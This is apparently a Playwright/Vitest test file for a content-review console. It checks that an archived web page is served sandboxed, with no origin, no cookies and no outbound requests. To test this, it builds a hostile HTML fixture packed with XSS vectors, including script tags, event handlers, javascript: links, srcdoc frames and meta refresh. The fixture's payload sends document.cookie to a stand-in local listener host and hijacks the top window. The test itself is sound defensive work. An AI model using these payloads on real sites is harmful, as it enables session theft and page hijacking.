/** A captured page is other people's text: shown in the console it does nothing, loads nothing and reaches nothing. */

import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Frame, Page } from 'playwright';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { useConsole } from '../support/console.ts';
import { restOnPage, reviewRound } from '../support/review-round.ts';

const console_ = useConsole({
  round: await reviewRound([
    {
      name: '示例文旅',
      problems: [{ rule: 'commercial-footer', list: '部分信息页面底部存在商业信息', state: 'suspected' }],
    },
  ]),
});

/** Whoever is asked here was asked by the page. */
let listener: Server;
let elsewhere = '';
const heard: string[] = [];
let capture = '';

beforeAll(async () => {
  listener = createServer((request, response) => {
    heard.push(request.url ?? '');
    response.setHeader('access-control-allow-origin', '*').end();
  });
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
  elsewhere = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`;
  capture = (await restOnPage(console_.app, violation(), hostile(), '推广文字：山地苹果礼盒')).page;
});
afterAll(() => new Promise((resolve) => listener.close(resolve)));

function violation(): number {
  const id = console_.seeded.violations.get('示例文旅 commercial-footer');
  if (id === undefined) throw new Error('there is no violation');
  return id;
}

function hostile(): string {
  const steal = `fetch('${elsewhere}/script?' + document.cookie); top.location = '${elsewhere}/top'; parent.document.title = 'taken'`;
  return `<html><head>
    <meta http-equiv="refresh" content="0;url=${elsewhere}/refresh">
    <base href="${elsewhere}/">
    <link rel="stylesheet" href="${elsewhere}/sheet"><link rel="prefetch" href="${elsewhere}/prefetch">
    <link rel="preload" as="image" href="${elsewhere}/preload"><link rel="icon" href="${elsewhere}/icon">
    <style>@import url(${elsewhere}/import); body { background: url(${elsewhere}/background) }</style>
    <script>${steal}</script></head>
    <body onload="${steal}" background="${elsewhere}/body">
    <h1 style="background: url(${elsewhere}/inline)">周末活动预告</h1>
    <img src="${elsewhere}/beacon" srcset="${elsewhere}/srcset 2x" onerror="${steal}"><img src="x" onerror="${steal}">
    <svg onload="${steal}"><script>${steal}</script><image href="${elsewhere}/svg"></image></svg>
    <iframe src="${elsewhere}/frame" srcdoc="<script>${steal}</script>"></iframe>
    <object data="${elsewhere}/object"></object><embed src="${elsewhere}/embed">
    <video src="${elsewhere}/video" poster="${elsewhere}/poster" autoplay></video>
    <form id="f" action="${elsewhere}/form"><input name="a" autofocus onfocus="${steal}"><button>提交</button></form>
    <p>山地苹果礼盒</p>
    <a href="javascript:${steal}" ping="${elsewhere}/ping">阅读原文</a> <a href="${elsewhere}/link" target="_top">链接</a>
    <script src="${elsewhere}/script.js"></script>
  </body></html>`;
}

/** Whatever a person could press in it. */
async function pressEverything(frame: Page | Frame): Promise<void> {
  for (const words of ['提交', '阅读原文', '链接'])
    for (const found of await frame.getByText(words, { exact: true }).all())
      await found.click({ noWaitAfter: true });
}

async function watched(): Promise<{ page: Page; asked: string[] }> {
  const page = await console_.as('administrator').browserPage();
  const asked: string[] = [];
  page.on('request', (request) => asked.push(request.url()));
  return { page, asked };
}

const own = (url: string) => url.startsWith(console_.address);

describe('a captured page full of traps', () => {
  it('opened by itself is its text alone, of an origin of its own, without the console’s cookies', async () => {
    const { page, asked } = await watched();
    const address = `${console_.address}/captures/${capture}/view?violation=${violation()}`;
    const answer = await page.goto(address);
    expect(answer?.headers()['content-security-policy']).toMatch(/^sandbox; default-src 'none'/);
    await pressEverything(page);
    expect(await page.locator('mark').textContent()).toBe('山地苹果礼盒');
    expect(await page.evaluate(() => self.origin)).toBe('null');
    const cookies = await page.evaluate(() => {
      try {
        return document.cookie;
      } catch (error) {
        return (error as Error).name;
      }
    });
    expect(cookies).toBe('SecurityError');
    expect(page.url()).toBe(address);
    expect(asked.filter((url) => !own(url))).toEqual([]);
    expect(heard).toEqual([]);
    await page.context().close();
  });

  it('in the screen of a decision does nothing either', async () => {
    const { page, asked } = await watched();
    await page.goto(`${console_.address}/review/${violation()}`);
    const title = await page.title();
    await page.getByText('存档文章1').click();
    await page.frameLocator(`iframe[src*="${capture}"]`).locator('mark').waitFor();
    const frame = page.frames().find((one) => one.url().includes(capture));
    if (!frame) throw new Error('the page is in no frame');
    await pressEverything(frame);
    expect(await page.title()).toBe(title);
    expect(own(page.url())).toBe(true);
    expect(asked.filter((url) => !own(url))).toEqual([]);
    expect(heard).toEqual([]);
    await page.context().close();
  });

  it('would do nothing even if it were served as it came: the policy alone holds it', async () => {
    const { page } = await watched();
    const address = `${console_.address}/captures/${capture}/view`;
    await page.route(address, async (route) => {
      const response = await route.fetch();
      await route.fulfill({ response, body: hostile() });
    });
    await page.goto(address);
    await page.locator('h1').waitFor();
    expect(await page.evaluate(() => self.origin)).toBe('null');
    expect(page.url()).toBe(address);
    expect(heard).toEqual([]);
    await page.context().close();
  });

  it('is no harmless one: without the policy its traps spring', async () => {
    const { page } = await watched();
    const address = `${console_.address}/captures/${capture}/view`;
    await page.route(address, (route) => route.fulfill({ contentType: 'text/html', body: hostile() }));
    await page.goto(address, { waitUntil: 'commit' }).catch(() => null);
    await expect.poll(() => heard.length).toBeGreaterThan(0);
    await page.context().close();
  });
});
